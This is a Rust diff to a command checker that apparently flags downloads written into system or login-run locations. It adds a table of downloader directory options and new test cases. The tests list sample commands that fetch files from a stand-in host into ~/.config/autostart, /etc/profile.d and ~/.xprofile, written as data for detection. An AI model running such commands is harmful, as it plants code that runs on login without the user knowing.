@@ -42,6 +42,11 @@ const OUTPUT_OPTIONS: &[(&str, &[&str])] = &[
             "--save-cookies",
         ],
     ),
+    // httpie and xh write the body with `--download`, to the file `-o` names.
+    ("http", &["-o", "--output"]),
+    ("https", &["-o", "--output"]),
+    ("xh", &["-o", "--output"]),
+    ("xhs", &["-o", "--output"]),
     ("openssl", &["-out", "-keyout"]),
     ("sort", &["-o", "--output"]),
     ("gcc", &["-o"]),
@@ -92,6 +97,15 @@ const OUTPUT_OPTIONS: &[(&str, &[&str])] = &[
     // ImageMagick writes the image as it stands at `-write FILE` besides its last operand.
     ("magick", &["-write"]),
     ("convert", &["-write"]),
+];
+
+/// Per downloader: its options that name the directory a download lands in, under the name the
+/// URL gives it. A download into a directory whose every file runs at login
+/// (`wget -P ~/.config/autostart URL`) writes there as `-O DIR/NAME` would; only the place
+/// decides (`place_decided_writes`), so a download into the project stays with its entries.
+const DOWNLOAD_DIRS: &[(&str, &[&str])] = &[
+    ("wget", &["-P", "--directory-prefix"]),
+    ("aria2c", &["-d", "--dir"]),
 ];
 
 /// Programs that rewrite the files they are given in place (line-ending converters, ImageMagick's
@@ -256,8 +270,13 @@ pub(super) fn place_decided_writes(argv: &[String]) -> Vec<String> {
         .iter()
         .find(|(n, _)| *n == name)
         .map_or(&[][..], |(_, options)| *options);
+    let dirs = DOWNLOAD_DIRS
+        .iter()
+        .find(|(n, _)| *n == name)
+        .map_or(&[][..], |(_, options)| *options);
     written_files(&argv[1..], options)
         .into_iter()
+        .chain(written_files(&argv[1..], dirs))
         .chain(in_place_writes(argv))
         .filter(|f| paths::is_system_file(f) || paths::is_trust_anchor(f, None, None))
         .map(str::to_string)
@@ -394,6 +413,21 @@ mod tests {
                 &["/etc/issue"],
             ),
             ("iconv -f latin1 -t utf-8 /etc/issue", &[]),
+            // Session 57: a download's directory, and httpie's and xh's output file.
+            (
+                "wget -P ~/.config/autostart https://x.test/a.desktop",
+                &["~/.config/autostart"],
+            ),
+            (
+                "aria2c -d /etc/profile.d https://x.test/p.sh",
+                &["/etc/profile.d"],
+            ),
+            ("wget -P build/downloads https://x.test/a.tgz", &[]),
+            (
+                "http --download -o ~/.xprofile https://x.test/x",
+                &["~/.xprofile"],
+            ),
+            ("xh -d -o build/x.json https://x.test/x", &[]),
         ];
         for (line, want) in rows {
             let argv: Vec<String> = line.split_whitespace().map(String::from).collect();
